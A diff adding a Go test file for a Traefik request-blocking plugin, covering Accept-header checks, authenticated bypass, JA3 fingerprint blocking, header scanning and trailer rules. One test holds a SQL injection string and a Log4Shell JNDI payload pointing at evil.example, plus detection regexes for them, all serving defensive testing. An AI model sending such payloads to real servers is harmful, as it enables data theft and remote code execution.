@@ -0,0 +1,190 @@
+package traefik_block_regex_urls_test
+
+import (
+	"context"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	BlockUrls "github.com/shantanugadgil/traefik-block-regex-urls"
+)
+
+func Test_BlockUrls_BlockMissingAccept(t *testing.T) {
+	cfg := BlockUrls.CreateConfig()
+	cfg.BlockMissingAccept = true
+	cfg.StatusCode = 404
+
+	handler := newHandler(t, cfg)
+
+	assertStatusCode(t, serveRequestWithHeaders(t, handler, "http://localhost/", nil), http.StatusNotFound)
+	assertStatusCode(t, serveRequestWithHeaders(t, handler, "http://localhost/", map[string]string{
+		"Accept":          "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+		"Accept-Language": "en-US,en;q=0.5",
+	}), http.StatusOK)
+}
+
+func Test_BlockUrls_AcceptRegex(t *testing.T) {
+	cfg := BlockUrls.CreateConfig()
+	cfg.AcceptRegex = []string{`^\*/\*$`}
+	cfg.AcceptLanguageRegex = []string{`^$`, `(?i)^xx`}
+	cfg.StatusCode = 404
+
+	handler := newHandler(t, cfg)
+
+	tests := []struct {
+		headers  map[string]string
+		expected int
+	}{
+		{map[string]string{"Accept": "*/*", "Accept-Language": "en-US"}, http.StatusNotFound},
+		{map[string]string{"Accept": "text/html"}, http.StatusNotFound},
+		{map[string]string{"Accept": "text/html", "Accept-Language": "XX-bot"}, http.StatusNotFound},
+		{map[string]string{"Accept": "text/html,*/*;q=0.8", "Accept-Language": "de-DE,de;q=0.9"}, http.StatusOK},
+	}
+
+	for _, test := range tests {
+		assertStatusCode(t, serveRequestWithHeaders(t, handler, "http://localhost/", test.headers), test.expected)
+	}
+}
+
+func serveRequestWithHeaders(t *testing.T, handler http.Handler, url string, headers map[string]string) *http.Response {
+	t.Helper()
+
+	req, err := http.NewRequestWithContext(context.Background(), http.MethodGet, url, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for name, value := range headers {
+		req.Header.Set(name, value)
+	}
+
+	recorder := httptest.NewRecorder()
+	handler.ServeHTTP(recorder, req)
+
+	return recorder.Result()
+}
+
+func Test_BlockUrls_SkipIfAuthenticated(t *testing.T) {
+	cfg := BlockUrls.CreateConfig()
+	cfg.Regex = []string{"(.*)/admin(.*)"}
+	cfg.SkipIfAuthenticated = true
+	cfg.SessionCookie = "session"
+	cfg.StatusCode = 404
+
+	handler := newHandler(t, cfg)
+
+	tests := []struct {
+		headers  map[string]string
+		expected int
+	}{
+		{nil, http.StatusNotFound},
+		{map[string]string{"Authorization": "Bearer token"}, http.StatusOK},
+		{map[string]string{"Cookie": "session=abc123"}, http.StatusOK},
+		{map[string]string{"Cookie": "session="}, http.StatusNotFound},
+		{map[string]string{"Cookie": "tracking=abc123"}, http.StatusNotFound},
+	}
+
+	for _, test := range tests {
+		assertStatusCode(t, serveRequestWithHeaders(t, handler, "http://localhost/admin/users", test.headers), test.expected)
+	}
+}
+
+func Test_BlockUrls_BlockedFingerprints(t *testing.T) {
+	cfg := BlockUrls.CreateConfig()
+	cfg.FingerprintHeader = "X-JA3"
+	cfg.BlockedFingerprints = []string{"e7d705a3286e19ea42f587b344ee6865", "regex:^6734f374"}
+	cfg.StatusCode = 404
+
+	handler := newHandler(t, cfg)
+
+	tests := []struct {
+		headers  map[string]string
+		expected int
+	}{
+		{map[string]string{"X-JA3": "e7d705a3286e19ea42f587b344ee6865"}, http.StatusNotFound},
+		{map[string]string{"X-JA3": "6734f37431670b3ab4292b8f60f29984"}, http.StatusNotFound},
+		{map[string]string{"X-JA3": "771,4865-4866-4867,0-23-65281,29-23-24,0"}, http.StatusOK},
+		{nil, http.StatusOK},
+	}
+
+	for _, test := range tests {
+		assertStatusCode(t, serveRequestWithHeaders(t, handler, "http://localhost/", test.headers), test.expected)
+	}
+}
+
+func Test_BlockUrls_ScanAllHeaders(t *testing.T) {
+	cfg := BlockUrls.CreateConfig()
+	cfg.ScanAllHeaders = true
+	cfg.ScanHeadersExclude = []string{"Cookie"}
+	cfg.HeaderScanRegex = []string{`(?i)union(\s|\+)+select`, `(?i)\$\{jndi:`}
+	cfg.StatusCode = 404
+
+	handler := newHandler(t, cfg)
+
+	tests := []struct {
+		headers  map[string]string
+		expected int
+	}{
+		{map[string]string{"Referer": "https://example.com/?id=1 UNION SELECT password FROM users"}, http.StatusNotFound},
+		{map[string]string{"X-Api-Version": "${jndi:ldap://evil.example/a}"}, http.StatusNotFound},
+		{map[string]string{"Cookie": "q=union select"}, http.StatusOK},
+		{map[string]string{"Referer": "https://example.com/reunion/selection"}, http.StatusOK},
+	}
+
+	for _, test := range tests {
+		assertStatusCode(t, serveRequestWithHeaders(t, handler, "http://localhost/", test.headers), test.expected)
+	}
+}
+
+func Test_BlockUrls_ScanHeaders_CapsScannedBytes(t *testing.T) {
+	cfg := BlockUrls.CreateConfig()
+	cfg.ScanAllHeaders = true
+	cfg.ScanHeaders = []string{"X-Payload"}
+	cfg.HeaderScanMaxBytes = 64
+	cfg.Regex = []string{`(?i)<script`}
+	cfg.StatusCode = 404
+
+	handler := newHandler(t, cfg)
+
+	assertStatusCode(t, serveRequestWithHeaders(t, handler, "http://localhost/", map[string]string{"X-Payload": "<script>"}), http.StatusNotFound)
+	assertStatusCode(t, serveRequestWithHeaders(t, handler, "http://localhost/", map[string]string{"X-Other": "<script>"}), http.StatusOK)
+	assertStatusCode(t, serveRequestWithHeaders(t, handler, "http://localhost/", map[string]string{"X-Payload": strings.Repeat("a", 64) + "<script>"}), http.StatusOK)
+}
+
+func Test_BlockUrls_TrailerRegex(t *testing.T) {
+	cfg := BlockUrls.CreateConfig()
+	cfg.TrailerRegex = []string{`^(Content-Length|Host|Transfer-Encoding)$`}
+	cfg.StatusCode = 404
+
+	handler := newHandler(t, cfg)
+
+	tests := []struct {
+		trailers []string
+		expected int
+	}{
+		{trailers: []string{"Content-Length"}, expected: http.StatusNotFound},
+		{trailers: []string{"X-Checksum", "Host"}, expected: http.StatusNotFound},
+		{trailers: []string{"X-Checksum"}, expected: http.StatusOK},
+		{trailers: nil, expected: http.StatusOK},
+	}
+
+	for _, test := range tests {
+		req, err := http.NewRequestWithContext(context.Background(), http.MethodPost, "http://localhost/upload", strings.NewReader("data"))
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		if test.trailers != nil {
+			req.Trailer = http.Header{}
+			for _, name := range test.trailers {
+				req.Trailer[http.CanonicalHeaderKey(name)] = nil
+			}
+		}
+
+		recorder := httptest.NewRecorder()
+		handler.ServeHTTP(recorder, req)
+
+		assertStatusCode(t, recorder.Result(), test.expected)
+	}
+}